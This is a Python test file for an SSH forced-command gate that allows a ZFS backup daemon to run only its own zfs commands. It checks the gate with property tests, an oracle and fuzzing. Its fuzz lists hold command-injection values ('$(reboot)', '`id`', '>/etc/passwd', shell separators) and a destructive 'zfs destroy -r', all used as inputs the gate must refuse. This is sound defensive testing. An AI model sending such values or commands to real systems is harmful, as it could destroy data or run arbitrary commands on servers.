    config.write_text('roots = ["tank/data"]\nzfs = "/bin/echo"\n')

    def gate_with(command: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-I", "-S", str(archive), "--config", str(config)],
            env={"SSH_ORIGINAL_COMMAND": command},
            capture_output=True,
            text=True,
            check=False,
            cwd=tmp_path,
        )

    allowed = gate_with(f"zfs holds -H -p {SNAP}")
    assert (allowed.returncode, allowed.stdout) == (0, f"holds -H -p {SNAP}\n")  # echo ran
    hostile = gate_with("zfs destroy -r tank/data")
    assert hostile.returncode == gate.EXIT_REFUSED
    assert hostile.stdout == ""
    assert hostile.stderr == "zbackupd-gate: refused: not a command zbackupd issues\n"


# -- one grammar: everything the daemon builds passes the gate --------------------------

COMPONENT = st.from_regex(r"[A-Za-z0-9_.:-]{1,10}", fullmatch=True).filter(
    lambda part: part not in (".", "..")
)
DATASET = st.builds(
    lambda root, parts: "/".join([root, *parts]),
    st.sampled_from(ROOTS),
    st.lists(COMPONENT, max_size=3),
)
WHEN = st.datetimes(
    min_value=datetime(2000, 1, 1), max_value=datetime(2200, 1, 1), timezones=st.just(UTC)
)
LABEL = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,20}", fullmatch=True)
PREFIX = st.sampled_from(["zbackupd", "site", "zb.b-2"])


@st.composite
def daemon_commands(draw: st.DrawFn) -> tuple[tuple[str, ...], str]:
    """(argv a builder emitted, the prefix it was built with), over the whole remote surface."""
    prefix = draw(PREFIX)
    dataset, other = draw(DATASET), draw(DATASET)
    own = names.run_snapshot_name(dataset, draw(WHEN), prefix)
    own2 = names.run_snapshot_name(dataset, draw(WHEN), prefix)
    foreign = f"{dataset}@{draw(COMPONENT)}"  # reuse mode: sanoid's or the admin's snapshots
    label = draw(LABEL)
    suffixed = draw(st.booleans())
    guid = draw(st.integers(0, 2**64 - 1)) if suffixed else None
    mark = names.cursor_bookmark_name(dataset, label, prefix, guid=guid)
    tag = names.hold_tag(label, prefix)
    mode = draw(st.sampled_from(list(Encryption)))
    estimate, recursive = draw(st.booleans()), draw(st.booleans())
    token = encode_token(draw(st.sampled_from([own, foreign])), raw=draw(st.booleans()))
    choices = [
        lambda: zargv.list_snapshots([dataset, other], recursive=recursive),
        lambda: zargv.list_bookmarks([dataset], recursive=recursive),
        lambda: zargv.list_snapshots_and_bookmarks([dataset, other], recursive=recursive),
        lambda: zargv.list_datasets([dataset, other]),
        lambda: zargv.holds([foreign, own]),
        lambda: zargv.snapshot([own, names.run_snapshot_name(other, draw(WHEN), prefix)]),
        lambda: zargv.snapshot([own], recursive=True),
        lambda: zargv.hold(tag, [foreign, own]),
        lambda: zargv.release(tag, [own]),
        lambda: zargv.bookmark(foreign, mark),
        lambda: zargv.bookmark(own, mark),
        lambda: zargv.destroy_snapshots(dataset, [own.partition("@")[2], own2.partition("@")[2]]),
        lambda: zargv.destroy_bookmark(mark),
        lambda: zargv.send_full(foreign, mode, estimate=estimate),
        lambda: zargv.send_incremental(mark, own, mode, estimate=estimate),
        lambda: zargv.send_incremental(foreign, own, mode, estimate=estimate),
        lambda: zargv.send_incremental(foreign, own, mode, intermediates=True, estimate=estimate),
        lambda: zargv.send_resume(token, estimate=estimate),
    ]
    return draw(st.sampled_from(choices))(), prefix


@settings(derandomize=True, deadline=None, max_examples=400)
@given(command=daemon_commands())
def test_the_gate_accepts_every_command_the_daemon_builds(
    command: tuple[tuple[str, ...], str],
) -> None:
    built, prefix = command
    # The daemon holds the reused snapshots it sends: the gate config names their pattern.
    config = gate.GateConfig(roots=ROOTS, prefix=prefix, hold_patterns=("*",))
    decision = gate.decide(shlex.join(built), config, PLAIN_SERVER)
    assert isinstance(decision, gate.Accepted), decision
    assert decision.command.argv == built
    assert within_grammar(built, ROOTS, prefix), built


# -- the oracle: what "inside the grammar" means, written out independently ------------

_POOL = r"[A-Za-z][A-Za-z0-9_.:-]*"
_PART = r"[A-Za-z0-9_.:-]+"
_OWN_SNAPSHOT = r"{prefix}_[0-9]{{8}}T[0-9]{{6}}Z"
_OWN_LABELLED = r"{prefix}_[A-Za-z0-9][A-Za-z0-9_.-]{{0,63}}"
_OWN_CURSOR = _OWN_LABELLED + r"(:[0-9]{{1,20}})?"
_LIST_COLUMNS = ["-o", "name,guid,createtxg,creation", "-s", "createtxg"]


class Oracle:
    """Literal templates of the remote commands; every name checked against the roots.

    ``encrypted``: every dataset on the server is encrypted (so only raw sends leave);
    otherwise none is. Snapshot guids are the stub's ``guid_of``, and each dataset has
    ``@zbackupd_20250101T000000Z`` and ``#zbackupd_disk1`` (what ``FakeZfs`` answers).
    """

    def __init__(self, roots: Sequence[str], prefix: str, *, encrypted: bool = False) -> None:
        self.roots = tuple(roots)
        self.encrypted = encrypted
        self.own_snapshot = re.compile(_OWN_SNAPSHOT.format(prefix=re.escape(prefix)))
        self.own_labelled = re.compile(_OWN_LABELLED.format(prefix=re.escape(prefix)))
        self.own_cursor = re.compile(_OWN_CURSOR.format(prefix=re.escape(prefix)))

    def dataset(self, name: str) -> bool:
        parts = name.split("/")
        return (
            len(name) <= 255
            and re.fullmatch(_POOL, parts[0]) is not None
            and all(re.fullmatch(_PART, p) and p not in (".", "..") for p in parts[1:])
            and any(name == root or name.startswith(root + "/") for root in self.roots)
        )

    def versioned(self, name: str, separator: str, own: re.Pattern[str] | None) -> str | None:
        """The dataset of ``ds@short``/``ds#short`` if it is acceptable, else None."""
        dataset, found, short = name.partition(separator)
        if not found or not self.dataset(dataset) or len(name) > 255:
            return None
        if not re.fullmatch(_PART, short) or short in (".", ".."):
            return None
        if own is not None and not own.fullmatch(short):
            return None
        return dataset

    def snapshot(self, name: str, *, own: bool = False) -> str | None:
        return self.versioned(name, "@", self.own_snapshot if own else None)

    def bookmark(self, name: str, *, own: bool = False) -> str | None:
        return self.versioned(name, "#", self.own_cursor if own else None)

    def token_snapshot(self, token: str) -> str | None:  # noqa: PLR0911 -- one per rule
        """The dataset a resume token continues (its ``toname``), read by hand, if the
        server would resolve it there: guids its own, no saved/redaction fields, raw if
        the server is encrypted."""
        fields = token.split("-")
        if len(fields) != 4 or not re.fullmatch(r"[0-9a-f]+", fields[3] or "x"):
            return None
        try:
            packed = zlib.decompress(bytes.fromhex(fields[3]))
        except (zlib.error, ValueError):
            return None
        at = packed.find(b"toname\0")
        if at < 0:
            return None
        toname = packed[at + 8 :].split(b"\0", 1)[0].decode("ascii", "replace")
        dataset = self.snapshot(toname)  # name at +16, value 8-aligned at +24
        if dataset is None or b"savedok\0" in packed or b"redact" in packed:
            return None
        if self.encrypted and b"rawok\0" not in packed:
            return None
        if self.uint64_after(packed, b"toguid\0", 8) != guid_of(toname):
            return None
        fromguid = self.uint64_after(packed, b"fromguid\0", 16)
        sources = {
            guid_of(f"{dataset}@zbackupd_20250101T000000Z"),
            guid_of(f"{dataset}#zbackupd_disk1"),
        }
        return dataset if fromguid in (None, 0) or fromguid in sources else None

    @staticmethod
    def uint64_after(packed: bytes, name: bytes, value_offset: int) -> int | None:
        at = packed.find(name)
        if at < 0:
            return None
        value: int = struct.unpack_from("<Q", packed, at + value_offset)[0]
        return value

    def accepts(self, argv: Sequence[str]) -> bool:  # noqa: PLR0911 -- one case per command
        words = list(argv)
        match words:
            case ["zfs", "list", "-H", "-p", "-t", kinds, *rest] if kinds in (
                "snapshot",
                "bookmark",
                "snapshot,bookmark",
            ):
                if rest[:4] != _LIST_COLUMNS:
                    return False
                tail = rest[4:]
                depth = 2 if tail[:2] == ["-d", "1"] else 1 if tail[:1] == ["-r"] else 0
                datasets = tail[depth:]
                return bool(depth and datasets) and all(map(self.dataset, datasets))
            case ["zfs", "list", "-H", "-p", "-t", "filesystem,volume", "-o", columns, "-r", *ds]:
                good = columns == "name,type,guid,encryption,encryptionroot,written"
                return good and bool(ds) and all(map(self.dataset, ds))
            case ["zfs", "holds", "-H", "-p", *snaps]:
                return bool(snaps) and all(self.snapshot(s) for s in snaps)
            case ["zfs", "snapshot", *snaps]:
                snaps = snaps[1:] if snaps[:1] == ["-r"] else snaps
                return bool(snaps) and all(self.snapshot(s, own=True) for s in snaps)
            case ["zfs", "hold" | "release", tag, *snaps]:
                own_tag = self.own_labelled.fullmatch(tag) is not None
                return own_tag and bool(snaps) and all(self.snapshot(s) for s in snaps)
            case ["zfs", "bookmark", snap, mark]:
                source = self.snapshot(snap)
                return source is not None and source == self.bookmark(mark, own=True)
            case ["zfs", "destroy", target]:
                if "#" in target:
                    return self.bookmark(target, own=True) is not None
                dataset, _, shorts = target.partition("@")
                return all(self.snapshot(f"{dataset}@{s}", own=True) for s in shorts.split(","))
            case ["zfs", "send", *rest]:
                return self.send(rest[1:] if rest[:1] == ["-nvP"] else rest)
            case _:
                return False

    def send(self, rest: list[str]) -> bool:
        if rest[:1] == ["-t"]:
            return len(rest) == 2 and self.token_snapshot(rest[1]) is not None
        if rest[:1] == ["-w"]:
            rest = rest[1:]
        elif rest[:2] == ["-L", "-c"] and not self.encrypted:
            rest = rest[2:]
        else:
            return False
        match rest:
            case [snap]:
                return self.snapshot(snap) is not None
            case ["-i", source, snap]:
                start = self.bookmark(source) if "#" in source else self.snapshot(source)
                return start is not None and start == self.snapshot(snap)
            case ["-I", source, snap]:
                start = self.snapshot(source)
                return start is not None and start == self.snapshot(snap)
            case _:
                return False


def within_grammar(
    argv: Sequence[str], roots: Sequence[str], prefix: str, *, encrypted: bool = False
) -> bool:
    return Oracle(roots, prefix, encrypted=encrypted).accepts(argv)


def test_the_oracle_is_not_a_rubber_stamp() -> None:
    oracle = Oracle(ROOTS, "zbackupd")
    assert oracle.accepts(["zfs", "send", "-w", "-i", MARK, SNAP])
    assert oracle.accepts(["zfs", "send", "-t", RAW_TOKEN])
    assert not oracle.accepts(["zfs", "send", "-t", encode_token("tank/x@s", raw=True)])
    assert not oracle.accepts(["zfs", "destroy", "tank/data@manual"])
    assert not oracle.accepts(["zfs", "send", "-w", "tank/database@s"])
    assert not oracle.accepts(["zfs", "send", "-R", SNAP])
    assert oracle.accepts(["zfs", "send", "-L", "-c", SNAP])
    assert not Oracle(ROOTS, "zbackupd", encrypted=True).accepts(["zfs", "send", "-L", "-c", SNAP])
    assert not Oracle(ROOTS, "zbackupd", encrypted=True).accepts(["zfs", "send", "-t", PLAIN_TOKEN])
    forged = encode_token(SNAP, raw=True, toguid=guid_of("tank/x@s"))
    assert not oracle.accepts(["zfs", "send", "-t", forged])
    assert oracle.accepts(
        ["zfs", "send", "-t", encode_token(SNAP2, raw=True, fromguid=guid_of(MARK))]
    )
    assert not oracle.accepts(["zfs", "send", "-t", encode_token(SNAP2, raw=True, fromguid=9)])
    assert not oracle.accepts(
        ["zfs", "send", "-t", encode_token(SNAP, raw=True, flags=["savedok"])]
    )
    # The oracle checks the shape of a run snapshot's timestamp, not that it is a real date.
    slipped_through = [command for command in HOSTILE if oracle.accepts(shlex.split(command))]
    assert slipped_through == ["zfs snapshot tank/data@zbackupd_20251301T000000Z"]


# -- the fuzz: mutations of valid commands and random tokens ---------------------------

HOSTILE_WORDS = [
    "-r", "-R", "-F", "-f", "-d", "-D", "-e", "-p", "-v", "-o", "-x", "--", "-", "-h", "-t",
    "-i", "-I", "-w", "-nvP", "-L", "-c", "-Lc", "-wR", "--raw", "readonly=off", "all", "",
    ";", "|", "&", "&&", "$(reboot)", "`id`", "\nreboot", ">", ">/etc/passwd", "<", "2>&1",
    "*", "?", "~", "..", ".", "../..", "/", "tank", "tank/data/..", "tank/data/../x",
    "tank/database", "tank/other", "backup", "backup/hostsx", "tank/data@", "tank/data#",
    "tank/data@manual", "tank/data#manual", "keep", "zbackupd_", "receive", "recv", "set",
    "allow", "destroy", "rename", "rollback", "zpool", "zfs", "sh", "send", "list", "snapshot",
    "hold", "release", "bookmark", "holds", "get", "zbackupd_20250101T000000Z",
    "snapshot,bookmark,filesystem", "name,guid,createtxg,creation,keylocation", "-d 1",
]  # fmt: skip
INSERTED_TEXT = [
    ";", "|", "&", "$", "`", "\n", ">", "<", " ", "\t", "'", '"', "\\", "@", "#", ",", "/",
    "%", "..", "-", "*", "\x00", "\u00e9", "\u0430", "x", "1", "_",
]  # fmt: skip


FOREIGN_SHORT_NAMES = [
    "manual",
    "keep",
    "autosnap_2025-01-01_daily",
    "zbackupd",
    "zbackupd_",
    "zbackupd_x y",
    "Zbackupd_20250101T000000Z",
    "zbackupd_20250101T000000",
]
SIBLING_DATASETS = ["tank", "tank/database", "tank/dat", "tank/data/..", "backup/hosts2",
                    "backup", "zz/tank/data", "tank/data/../other"]  # fmt: skip


def rename(rng: random.Random, word: str, *, dataset_part: bool) -> str:
    """Swap the dataset part or the short name (after ``@``/``#``) of a name for a near miss."""
    for separator in "@#":
        if separator in word:
            dataset, _, short = word.partition(separator)
            if dataset_part:
                return f"{rng.choice(SIBLING_DATASETS)}{separator}{short}"
            return f"{dataset}{separator}{rng.choice(FOREIGN_SHORT_NAMES)}"
    return rng.choice(SIBLING_DATASETS) if dataset_part and "/" in word else word


def mutate(rng: random.Random, argv: list[str]) -> list[str]:
    """One random mutation of an argv: insert/delete/replace/duplicate/swap words, edit a
    word's characters, or swap part of a name for a near miss."""
    words = list(argv)
    operation = rng.randrange(10)
    at = rng.randrange(len(words) + 1)
    if operation >= 8 and words:
        index = min(at, len(words) - 1)
        words[index] = rename(rng, words[index], dataset_part=operation == 8)
    elif operation == 0:
        words.insert(at, rng.choice(HOSTILE_WORDS))
    elif operation == 1 and words:
        del words[min(at, len(words) - 1)]
    elif operation == 2 and words:
        words[min(at, len(words) - 1)] = rng.choice(HOSTILE_WORDS + words)
    elif operation == 3 and words:
        words.insert(at, rng.choice(words))
    elif operation == 4 and len(words) > 1:
        i, j = rng.sample(range(len(words)), 2)
        words[i], words[j] = words[j], words[i]
    elif words:
        index = min(at, len(words) - 1)
        word = words[index]
        cut = rng.randrange(len(word) + 1)
        if operation == 5:
            words[index] = word[:cut] + rng.choice(INSERTED_TEXT) + word[cut:]
        elif operation == 6:
            words[index] = word[:cut] + word[cut + 1 :]
        else:
            words[index] = word[:cut] + rng.choice(INSERTED_TEXT) + word[cut + 1 :]
    return words


NAME_CHARS = "ABCXYZabcxyz0189_.:-"


def random_daemon_command(rng: random.Random) -> tuple[tuple[str, ...], str]:
    """Like ``daemon_commands`` but drawn from a seeded ``random.Random``: cheap enough to
    make ten thousand of."""

    def part() -> str:
        while (word := "".join(rng.choices(NAME_CHARS, k=rng.randint(1, 8)))) in (".", ".."):
            pass
        return word

    def dataset() -> str:
        return "/".join([rng.choice(ROOTS), *(part() for _ in range(rng.randrange(3)))])

    def when() -> datetime:
        return datetime(2000, 1, 1, tzinfo=UTC) + rng.random() * (
            datetime(2200, 1, 1, tzinfo=UTC) - datetime(2000, 1, 1, tzinfo=UTC)
        )

    prefix = rng.choice(["zbackupd", "site", "zb.b-2"])
    ds, other = dataset(), dataset()
    own = names.run_snapshot_name(ds, when(), prefix)
    own2 = names.run_snapshot_name(ds, when(), prefix)
    foreign = f"{ds}@{part()}"
    label = rng.choice("Ab0") + "".join(rng.choices("Az09_.-", k=rng.randrange(8)))
    mark = names.cursor_bookmark_name(ds, label, prefix)
    tag = names.hold_tag(label, prefix)
    mode = rng.choice(list(Encryption))
    estimate, recursive = rng.random() < 0.5, rng.random() < 0.5
    toname = rng.choice([own, foreign])
    token = encode_token(
        toname,
        raw=rng.random() < 0.5,
        toguid=rng.choice([None, None, None, guid_of(f"{other}@x"), rng.getrandbits(64)]),
        fromguid=rng.choice(
            [None, None, guid_of(f"{ds}#zbackupd_disk1"), guid_of(f"{other}@x"), 0]
        ),
        flags=rng.choice([(), (), (), ("savedok",)]),
        arrays=rng.choice([None, None, None, {"redact_snaps": [1]}]),
    )
    choices = [
        lambda: zargv.list_snapshots([ds, other], recursive=recursive),
        lambda: zargv.list_snapshots_and_bookmarks([ds], recursive=recursive),
        lambda: zargv.list_datasets([ds, other]),
        lambda: zargv.holds([foreign, own]),
        lambda: zargv.snapshot([own, names.run_snapshot_name(other, when(), prefix)]),
        lambda: zargv.snapshot([own], recursive=True),
        lambda: zargv.hold(tag, [foreign, own]),
        lambda: zargv.release(tag, [own]),
        lambda: zargv.bookmark(foreign, mark),
        lambda: zargv.destroy_snapshots(ds, [own.partition("@")[2], own2.partition("@")[2]]),
        lambda: zargv.destroy_bookmark(mark),
        lambda: zargv.send_full(foreign, mode, estimate=estimate),
        lambda: zargv.send_incremental(mark, own, mode, estimate=estimate),
        lambda: zargv.send_incremental(foreign, own, mode, intermediates=True, estimate=estimate),
        lambda: zargv.send_resume(token, estimate=estimate),
    ]
    return rng.choice(choices)(), prefix


def fuzzed_command_line(rng: random.Random) -> tuple[str, str]:
    """(command line, prefix): a mutated daemon command, or random words, sometimes with
    raw text spliced into the line itself (what a hostile client sends, unquoted)."""
    style = rng.choice(["mutated", "mutated", "mutated", "random", "spliced"])
    if style == "random":
        words = [rng.choice(HOSTILE_WORDS) for _ in range(rng.randrange(1, 8))]
        if rng.random() < 0.7:
            words[:0] = ["zfs", rng.choice(["send", "list", "destroy", "snapshot", "hold"])]
        return shlex.join(words), "zbackupd"
    built, prefix = random_daemon_command(rng)
    words = list(built)
    for _ in range(rng.randrange(1, 4)):
        words = mutate(rng, words)
    line = shlex.join(words)
    if style == "spliced":
        cut = rng.randrange(len(line) + 1)
        line = line[:cut] + rng.choice(INSERTED_TEXT + HOSTILE_WORDS) + line[cut:]
    return line, prefix


FUZZ_EXAMPLES = 1_000
FUZZ_BATCH = 10  # command lines per example: 10,000 in all


ENCRYPTED_SERVER = FakeZfs(encrypt_everything=True)


def check_fuzzed(line: str, prefix: str) -> bool:
    """True if the gate accepted ``line`` from a server whose datasets are all unencrypted,
    after checking it was right to, and that a server whose datasets are all encrypted
    accepted it only if it should."""
    config = gate.GateConfig(roots=ROOTS, prefix=prefix)
    secure = gate.decide(line, config, ENCRYPTED_SERVER)
    if isinstance(secure, gate.Accepted):
        assert within_grammar(secure.command.argv, ROOTS, prefix, encrypted=True), line
    decision = gate.decide(line, config, PLAIN_SERVER)
    if isinstance(decision, gate.Refused):
        assert isinstance(secure, gate.Refused), line
        return False
    argv = decision.command.argv
    assert argv == tuple(shlex.split(line)), line
    assert shlex.split(shlex.join(argv)) == list(argv), line  # re-rendered: the same argv
    assert within_grammar(argv, ROOTS, prefix), line
    assert all(names.within_roots(d, ROOTS) for d in decision.command.datasets), line
    return True


@settings(derandomize=True, deadline=None, max_examples=FUZZ_EXAMPLES)
@given(seed=st.integers(0, 2**64 - 1))
def test_fuzz_nothing_outside_the_grammar_is_ever_accepted(seed: int) -> None:
    rng = random.Random(seed)  # noqa: S311 -- test input generation, not a secret
    for _ in range(FUZZ_BATCH):
        check_fuzzed(*fuzzed_command_line(rng))


def test_the_fuzz_reaches_both_sides_of_the_gate() -> None:
    """Mutations must sometimes survive (a deleted duplicate, a swapped dataset) or the fuzz
    would only ever test the refusal path."""
    rng = random.Random(2025)  # noqa: S311 -- test input generation, not a secret
    outcomes = [check_fuzzed(*fuzzed_command_line(rng)) for _ in range(2_000)]
    assert 0 < sum(outcomes) < len(outcomes)


# -- per-client scope: one key acts for its own disks, holds pin only what it may -------

SCOPED = gate.GateConfig(roots=ROOTS, labels=("offsite-a",), hold_patterns=("autosnap_*",))
SANOID = "tank/data@autosnap_2025-01-01_00:00:00_daily"
USERS = "tank/data@before-upgrade"


def test_holds_pin_only_own_run_snapshots_or_the_configured_reuse_patterns() -> None:
    accepted(f"zfs hold zbackupd_offsite-a {SNAP}", SCOPED)
    accepted(f"zfs hold zbackupd_offsite-a {SANOID}", SCOPED)
    assert "may not be held" in refused(f"zfs hold zbackupd_offsite-a {USERS}", SCOPED)
    assert "may not be held" in refused(f"zfs hold zbackupd_offsite-a {SNAP} {USERS}", SCOPED)
    # Without hold_patterns, only zbackupd's own run snapshots may be held.
    assert "may not be held" in refused(f"zfs hold zbackupd_x {SANOID}")
    # Releasing is always allowed for an own tag: a stale hold must be removable.
    accepted(f"zfs release zbackupd_offsite-a {USERS}", SCOPED)


@pytest.mark.parametrize(
    "command",
    [
        "zfs hold zbackupd_offsite-b " + SNAP,
        "zfs release zbackupd_offsite-b " + SNAP,
        f"zfs bookmark {SNAP} tank/data#zbackupd_offsite-b:7",
        "zfs destroy tank/data#zbackupd_offsite-b",
        "zfs destroy tank/data#zbackupd_offsite-b:7",
    ],
)
def test_a_key_scoped_to_its_labels_cannot_touch_another_disks_holds_or_cursors(
    command: str,
) -> None:
    assert "offsite-b" in refused(command, SCOPED)
    assert isinstance(gate.decide(command, CONFIG, PLAIN_SERVER), gate.Accepted)


def test_the_own_disks_cursors_and_holds_pass_the_scope() -> None:
    accepted(f"zfs bookmark {SNAP} tank/data#zbackupd_offsite-a:7", SCOPED)
    accepted("zfs destroy tank/data#zbackupd_offsite-a", SCOPED)
    accepted(f"zfs release zbackupd_offsite-a {SNAP}", SCOPED)


def test_too_many_names_in_one_command_are_refused() -> None:
    config = gate.GateConfig(roots=ROOTS, max_names=3)
    snaps = [f"tank/data@zbackupd_2025010{d}T000000Z" for d in range(1, 5)]
    accepted(f"zfs holds -H -p {' '.join(snaps[:3])}", config)
    assert "too many names" in refused(f"zfs holds -H -p {' '.join(snaps)}", config)
    destroy_set = "tank/data@" + ",".join(s.partition("@")[2] for s in snaps)
    assert "too many names" in refused(f"zfs destroy {destroy_set}", config)


def test_scope_keys_are_read_and_checked() -> None:
    text = 'roots = ["tank"]\nlabels = ["offsite-a"]\nhold_patterns = ["autosnap_*"]\n' \
           "max_names = 50\n"
    config = gate_config.parse_config(text, "g.toml")
    assert (config.labels, config.hold_patterns, config.max_names) == (
        ("offsite-a",), ("autosnap_*",), 50)
    with pytest.raises(gate.GateConfigError) as caught:
        gate_config.parse_config(
            'roots = ["tank"]\nlabels = ["bad label"]\nhold_patterns = [""]\nmax_names = 0\n',
            "g.toml")
    assert {key for key, _ in caught.value.problems} == {"labels[0]", "hold_patterns[0]",
                                                         "max_names"}
